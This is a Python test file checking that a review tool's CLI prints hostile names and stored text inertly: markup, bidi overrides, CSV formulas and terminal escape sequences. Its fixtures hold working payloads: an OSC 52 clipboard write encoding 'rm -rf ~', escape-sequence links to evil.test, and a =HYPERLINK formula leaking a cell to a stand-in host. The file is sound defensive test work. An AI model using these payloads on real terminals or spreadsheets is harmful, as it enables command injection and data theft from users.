"""What the review commands print of hostile names: rich markup printed as it is (never drawn,
never a live link), bidi controls shown as code points, spreadsheet formulas neutralised in a
CSV export; terminal escape sequences in a summary, a context or a path never reach the terminal
(tables show their code points, JSON escapes them); `show c:ID` of a decided candidate and
`explain` of one not decided yet. Both backends; the terminal drawing in-process on a stream
that says it is a terminal."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest

from tests.support.cli import run_cli
from tests.support.jobs import add_candidates, candidates, make_ctx
from yzos_jobs import review_render, review_reports
from yzos_jobs.entity.refs import resolve
from yzos_jobs.maintain.jobs import run_entity_promote

pytestmark = pytest.mark.adversarial

MARKUP = [
    "Fix [/bold] closing tag parser",
    "[red]Alarm[/red] review",
    "[link=https://x.test]Docs[/link] audit",
]
RTL = "Invoice \u202egnp.exe\u202c review"


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def _promote(db_url: str, *names: str) -> None:
    ctx = make_ctx(db_url)  # dry_run
    add_candidates(ctx, *({"raw_text": n, "source_id": f"s{i}"} for i, n in enumerate(names)))
    run_entity_promote(ctx)


def test_names_holding_markup_are_printed_literally_on_a_terminal(
    db_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("FORCE_COLOR", "1")  # rich draws colours and links where it can
    monkeypatch.setenv("COLUMNS", "200")
    _promote(db_url, *MARKUP)
    ctx = make_ctx(db_url)
    out = _Terminal()
    with ctx.sessions() as s:
        lines = review_reports.entities_report(
            s, kind=None, status=None, project=None, search=None, limit=50
        )
        review_render.render_entities(lines, out)
        shown = review_reports.show_report(s, resolve(s, MARKUP[2]))
        review_render.render_show(shown, out)
    text = out.getvalue()
    for name in MARKUP:
        assert name in text
    assert "\x1b]8;" not in text  # no hyperlink escape
    assert "\x1b[31m" not in text  # nothing drawn red


def test_bidi_controls_are_shown_as_code_points(db_url: str) -> None:
    _promote(db_url, RTL)
    listed = run_cli("entities", db_url=db_url)
    assert listed.returncode == 0, listed.stderr
    assert "\u202e" not in listed.stdout
    assert "Invoice <U+202E>gnp.exe<U+202C> review" in listed.stdout
    out = _Terminal()
    ctx = make_ctx(db_url)
    with ctx.sessions() as s:
        review_render.render_show(review_reports.show_report(s, resolve(s, RTL)), out)
    assert "\u202e" not in out.getvalue() and "<U+202E>" in out.getvalue()


def test_a_csv_export_neutralises_cells_a_spreadsheet_would_run(db_url: str) -> None:
    formulas = [
        '=HYPERLINK("http://x.test/?"&A1,"Open")',
        "+1+2 release",
        "-2+3 cleanup",
        "@SUM(A1:A9) audit",
    ]
    _promote(db_url, *formulas, "Plain name")
    done = run_cli("export", "--format", "csv", db_url=db_url)
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(io.StringIO(done.stdout)))
    names = {r["name"] for r in rows}
    assert "Plain name" in names
    for name in names - {"Plain name"}:
        assert name.startswith("'") and name[1] in "=+-@", name
    assert not any(r["name"].startswith(("=", "+", "-", "@")) for r in rows)
    jsonl = run_cli("export", db_url=db_url)  # JSON lines keep the names as they are
    assert formulas[0] in {json.loads(line)["name"] for line in jsonl.stdout.splitlines()}


def test_show_of_a_decided_candidate_by_its_id(db_url: str) -> None:
    _promote(db_url, "Harbor Sync", "{{project_name}}")
    for c in candidates(make_ctx(db_url)):
        shown = run_cli("show", f"c:{c.id}", db_url=db_url)
        assert shown.returncode == 0, shown.stderr
        assert f"c:{c.id}" in shown.stdout and "Decisions (1)" in shown.stdout


def test_explain_of_a_candidate_not_decided_yet_says_so(db_url: str) -> None:
    ctx = make_ctx(db_url)
    add_candidates(ctx, {"raw_text": "Quarterly planning", "suggested_kind": None})
    run_entity_promote(ctx)  # dry_run leaves a candidate without a kind pending
    [c] = candidates(ctx)
    assert c.status == "pending"
    explained = run_cli("explain", f"c:{c.id}", db_url=db_url)
    assert explained.returncode == 0, explained.stderr
    assert "Not decided yet" in explained.stdout
    assert "before the decision trail" not in explained.stdout


# What an observer could put in a window's text: OSC 52 (write the clipboard), an OSC 8 link,
# a C1 CSI (colour on its own, no ESC), a bell, DEL, and rich markup.
HOSTILE_CONTEXT = (
    "see \x1b]52;c;cm0gLXJmIH4K\x1b\\ and \x1b]8;;https://evil.test/\x1b\\click\x1b]8;;\x1b\\"
    " then \x9b31mred\x9b0m \x07bell \x7fdel [link=https://evil.test]x[/link]"
)
HOSTILE_PATH = "/Users/me/Code/\x1b]0;owned\x07api\x9d"
# Every character that acts on a terminal but a line break.
ACTING = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
SGR = re.compile(r"\x1b\[[0-9;]*m")  # rich's own bold and italics on a terminal


def _promote_hostile(db_url: str) -> tuple[int, int]:
    """A project whose summary and sighting hold HOSTILE_CONTEXT, and a candidate of it."""
    ctx = make_ctx(db_url)
    add_candidates(
        ctx,
        {"raw_text": "Clip Project", "surrounding_text": HOSTILE_CONTEXT, "source_id": "h1"},
        {"raw_text": "api", "project_path": HOSTILE_PATH, "source_id": "h2"},
    )
    run_entity_promote(ctx)
    first = candidates(ctx)[0]
    assert first.surrounding_text == HOSTILE_CONTEXT and first.entity_id is not None
    return first.id, first.entity_id


def test_escape_sequences_in_stored_text_are_shown_not_sent(
    db_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("FORCE_COLOR", "1")
    monkeypatch.setenv("COLUMNS", "400")  # one line per cell: the code points stand whole
    candidate_id, entity_id = _promote_hostile(db_url)
    refs = ["Clip Project", f"c:{candidate_id}"]
    printed = [run_cli(cmd, ref, db_url=db_url) for cmd in ("show", "explain") for ref in refs]
    printed.append(run_cli("entities", db_url=db_url))
    for done in printed:
        assert done.returncode == 0, done.stderr
        assert not ACTING.search(done.stdout), done.stdout
    shown = printed[0].stdout  # show: the entity's summary and its sighting's
    assert shown.count("see <U+001B>]52;c;cm0gLXJmIH4K<U+001B>\\ and") == 2, shown
    assert "<U+009B>31mred<U+009B>0m <U+0007>bell <U+007F>del [link=" in shown
    assert "<U+001B>]52;c;" in printed[1].stdout  # show c:ID: its context
    assert "api" in printed[-1].stdout
    out = _Terminal()
    with make_ctx(db_url).sessions() as s:
        for ref in [*refs, f"e:{entity_id}"]:
            review_render.render_show(review_reports.show_report(s, resolve(s, ref)), out)
            review_render.render_explain(review_reports.explain_report(s, resolve(s, ref)), out)
    drawn = SGR.sub("", out.getvalue())
    assert not ACTING.search(drawn), repr(drawn)
    assert "<U+001B>]8;;https://evil.test/<U+001B>\\click" in drawn
    assert "[link=https://evil.test]x[/link]" in drawn  # markup printed, not a link


def test_json_output_escapes_what_acts_on_a_terminal_and_keeps_the_text(db_url: str) -> None:
    candidate_id, _ = _promote_hostile(db_url)
    for args in (("show", "Clip Project"), ("explain", f"c:{candidate_id}")):
        done = run_cli(*args, "--json", db_url=db_url)
        assert done.returncode == 0, done.stderr
        assert not ACTING.search(done.stdout), done.stdout
        report = json.loads(done.stdout)
        text = report["entity"]["summary"] if "entity" in report else None
        assert (text or report["candidate"]["surrounding_text"]) == HOSTILE_CONTEXT
    exported = run_cli("export", db_url=db_url)
    assert exported.returncode == 0, exported.stderr
    assert not ACTING.search(exported.stdout)
    paths = {json.loads(line)["project_path"] for line in exported.stdout.splitlines()}
    assert HOSTILE_PATH in paths


def test_a_csv_export_shows_control_characters_as_code_points(db_url: str) -> None:
    _promote_hostile(db_url)
    done = run_cli("export", "--format", "csv", db_url=db_url)
    assert done.returncode == 0, done.stderr
    assert not ACTING.search(done.stdout.replace("\r\n", "\n"))
    paths = {r["project_path"] for r in csv.DictReader(io.StringIO(done.stdout))}
    assert "/Users/me/Code/<U+001B>]0;owned<U+0007>api<U+009D>" in paths
